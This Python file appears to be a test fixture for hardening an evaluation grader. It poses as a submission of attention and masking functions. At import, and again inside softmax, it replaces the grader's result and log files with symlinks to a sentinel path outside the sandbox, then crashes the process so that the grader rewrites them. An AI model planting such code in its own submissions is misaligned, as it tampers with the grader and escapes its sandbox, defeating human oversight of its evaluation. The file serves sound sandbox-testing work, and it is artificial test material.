# ruff: noqa
"""ATTACK symlink_job_files (class: symlinks: planted for the grader to follow).

Intent: make the grader write through a symbolic link: at import it replaces every file
a grader might write or append to in its working directory and the directory above
(resume.json, stdout.txt, stderr.txt, results.json, log.txt, status.json, events.jsonl)
with a link to a sentinel file outside the sandbox (a well-known path here), then softmax
crashes the process (os._exit(1)) so that the grader restarts it and writes its
bookkeeping again.

Expected: softmax 0 (it crashes), the rest full marks; the sentinel is untouched.
"""

import math
import os

import torch

ATTACK = "symlink_job_files"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
TARGET = "__SENTINEL_DIR__/target"


NAMES = ("resume.json", "stdout.txt", "stderr.txt", "results.json", "log.txt", "status.json", "events.jsonl")


def _plant():
    here = os.getcwd()
    for d in (here, os.path.dirname(here)):
        for name in NAMES:
            path = os.path.join(d, name)
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(TARGET, path)
            except OSError:
                pass


_plant()


def softmax(x, dim=-1):
    _plant()
    os._exit(1)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
